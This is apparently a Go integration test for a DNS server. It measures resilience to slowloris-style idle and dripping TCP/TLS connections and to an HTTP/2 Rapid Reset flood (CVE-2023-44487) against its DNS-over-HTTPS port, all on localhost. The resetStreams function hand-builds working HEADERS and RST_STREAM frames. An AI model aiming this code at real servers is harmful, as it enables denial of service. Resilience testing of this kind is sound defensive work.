package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/miekg/dns"

	"github.com/musterdns/muster/integration/fault"
)

// The slow clients: fewer each than one client may have connections, and all together
// fewer than the server takes, so that none is turned away.
const (
	slowClients = 8
	idlePerSlow = 125
	dripPerSlow = 25
	dripEvery   = 100 * time.Millisecond // an octet each
	slowTime    = 5 * time.Second
	plainRate   = 2000 // questions a second over UDP
	newConns    = 100  // with a question each
	// The limits (RFC 9210 section 4.4 has the defences).
	newQueryMax = time.Second
	slowerMax   = 2
)

// slowClients measures questions over UDP, and over new connections, while others hold
// connections that say nothing, or an octet now and then.
func (a *attack) slowClients(ctx context.Context, out io.Writer) error {
	alone, err := a.plain(ctx)
	if err != nil {
		return err
	}
	missed := alone.Bad()
	for _, t := range []struct {
		name string
		dial func(ctx context.Context, from net.Addr) (net.Conn, error)
	}{
		{"TCP", func(ctx context.Context, from net.Addr) (net.Conn, error) {
			return (&net.Dialer{LocalAddr: from}).DialContext(ctx, "tcp", fmt.Sprintf("127.0.0.1:%d", a.c.port))
		}},
		{"TLS", func(ctx context.Context, from net.Addr) (net.Conn, error) {
			d := tls.Dialer{NetDialer: &net.Dialer{LocalAddr: from}, Config: a.client}
			return d.DialContext(ctx, "tcp", fmt.Sprintf("127.0.0.1:%d", a.c.dot))
		}},
	} {
		beside, times, err := a.besideSlow(ctx, t.dial)
		if err != nil {
			return fmt.Errorf("slow clients over %s: %w", t.name, err)
		}
		slower := float64(beside.Took.Quantile(0.99)) / float64(alone.Took.Quantile(0.99))
		fmt.Fprintf(out, "%d silent and %d dripping connections over %s\n  UDP: %s, without them %s, so p99 is %.2f of that\n  new connections to the answer: %s\n",
			slowClients*idlePerSlow, slowClients*dripPerSlow, t.name, beside.Took, alone.Took, slower, times)
		missed = errors.Join(missed, beside.Bad(), held(out, "a query over a new connection", times.Max(), newQueryMax))
		if slower > slowerMax {
			missed = errors.Join(missed, fmt.Errorf("p99 over UDP is %.1f times that without slow clients over %s: more than %d", slower, t.name, slowerMax))
		}
	}
	return missed
}

// plain is a load of plain questions over UDP.
func (a *attack) plain(ctx context.Context) (fault.Tally, error) {
	load := fault.Load{
		Addr: fmt.Sprintf("127.0.0.1:%d", a.c.port), Rate: plainRate, Names: []string{a.data.service(0) + "." + zoneName + "."}, Window: slowTime,
		Judge: func(m *dns.Msg) error {
			if m.Rcode != dns.RcodeSuccess || len(m.Answer) != a.data.instances {
				return errors.New("not the answer")
			}
			return nil
		},
	}
	return load.Run(ctx)
}

// besideSlow is a load of plain questions, and then new connections, beside slow clients.
func (a *attack) besideSlow(ctx context.Context, dial func(context.Context, net.Addr) (net.Conn, error)) (fault.Tally, fault.Times, error) {
	ctx, cancel := context.WithCancel(ctx)
	var dripping sync.WaitGroup
	var conns []net.Conn
	defer func() {
		cancel()
		for _, c := range conns {
			c.Close()
		}
		dripping.Wait()
	}()
	for i := range slowClients * (idlePerSlow + dripPerSlow) {
		from := &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(2+i%slowClients))}
		conn, err := dial(ctx, from)
		if err != nil {
			return fault.Tally{}, nil, fmt.Errorf("connection %d: %w", i, err)
		}
		conns = append(conns, conn)
		if i < slowClients*dripPerSlow {
			dripping.Go(func() { drip(ctx, conn) })
		}
	}
	tally, err := a.plain(ctx)
	if err != nil {
		return tally, nil, err
	}
	times, err := a.newQueries(ctx, dial)
	return tally, times, err
}

// drip writes a query an octet at a time until the server has had enough.
func drip(ctx context.Context, conn net.Conn) {
	tick := time.NewTicker(dripEvery)
	defer tick.Stop()
	for octets := sized(query(strings.Repeat("slow.", 40)+zoneName, typeA)); len(octets) > 0; octets = octets[1:] {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		if _, err := conn.Write(octets[:1]); err != nil {
			return
		}
	}
}

// newQueries asks over one new connection after the other.
func (a *attack) newQueries(ctx context.Context, dial func(context.Context, net.Addr) (net.Conn, error)) (times fault.Times, err error) {
	q := sized(query(a.data.service(0)+"."+zoneName, typeA))
	for range newConns {
		began := time.Now()
		conn, err := dial(ctx, nil)
		if err == nil {
			err = once(conn, q)
			conn.Close()
		}
		if err != nil {
			return times, fmt.Errorf("a new connection: %w", err)
		}
		times = append(times, time.Since(began))
	}
	return times, nil
}

// once asks over a stream and waits for the answer.
func once(conn net.Conn, q []byte) error {
	if err := conn.SetDeadline(time.Now().Add(startTimeout)); err != nil {
		return err
	}
	if _, err := conn.Write(q); err != nil {
		return err
	}
	var size [2]byte
	if _, err := io.ReadFull(conn, size[:]); err != nil {
		return err
	}
	_, err := io.CopyN(io.Discard, conn, int64(binary.BigEndian.Uint16(size[:])))
	return err
}

// resetsCount is how many streams are opened and reset.
const resetsCount = 10_000

// resets opens streams of DNS over HTTPS and resets them at once (CVE-2023-44487), over
// new connections when the server ends one.
func (a *attack) resets(ctx context.Context, out io.Writer) error {
	before, err := rss(a.c.proc)
	if err != nil {
		return err
	}
	config := a.client.Clone()
	config.NextProtos = []string{"h2"}
	sent, connections := 0, 0
	for ; sent < resetsCount && connections < resetsCount/10; connections++ {
		conn, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", fmt.Sprintf("127.0.0.1:%d", a.c.doh))
		if err != nil {
			return fmt.Errorf("connection %d: %w", connections, err)
		}
		sent += resetStreams(conn, resetsCount-sent)
		conn.Close()
	}
	now, err := rss(a.c.proc)
	if err != nil {
		return err
	}
	answer := ask(ctx, a.c.port, query(a.data.service(0)+"."+zoneName, typeA), true)
	fmt.Fprintf(out, "%d streams of DNS over HTTPS opened and reset, over %d connections\n  memory %+.1f MiB\n", sent, connections, float64(now-before)/(1<<20))
	if sent < resetsCount {
		answer = errors.Join(answer, fmt.Errorf("only %d streams could be reset", sent))
	}
	return errors.Join(answer, atMost("memory after the resets", now-before))
}

// resetStreams opens and resets streams of one connection of HTTP/2 (RFC 9113) until
// that is ended, and returns how many it was.
func resetStreams(conn net.Conn, most int) (n int) {
	go io.Copy(io.Discard, conn) //nolint:errcheck // until it is closed, so that the server can always write
	if _, err := conn.Write([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00")); err != nil {
		return 0
	}
	// GET, https, :path and :authority as literals without indexing (RFC 7541).
	path := "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwAAAQAB"
	block := append(append([]byte{0x82, 0x87, 0x04, byte(len(path))}, path...), "\x01\x08dns.test"...)
	for ; n < most; n++ {
		id := uint32(2*n + 1)
		frames := append([]byte{0, 0, byte(len(block)), 1, 5}, binary.BigEndian.AppendUint32(nil, id)...) // HEADERS, END_STREAM and END_HEADERS
		frames = append(frames, block...)
		frames = append(frames, 0, 0, 4, 3, 0)
		frames = binary.BigEndian.AppendUint32(frames, id)
		frames = append(frames, 0, 0, 0, 8) // RST_STREAM, CANCEL
		if _, err := conn.Write(frames); err != nil {
			return n
		}
	}
	return n
}
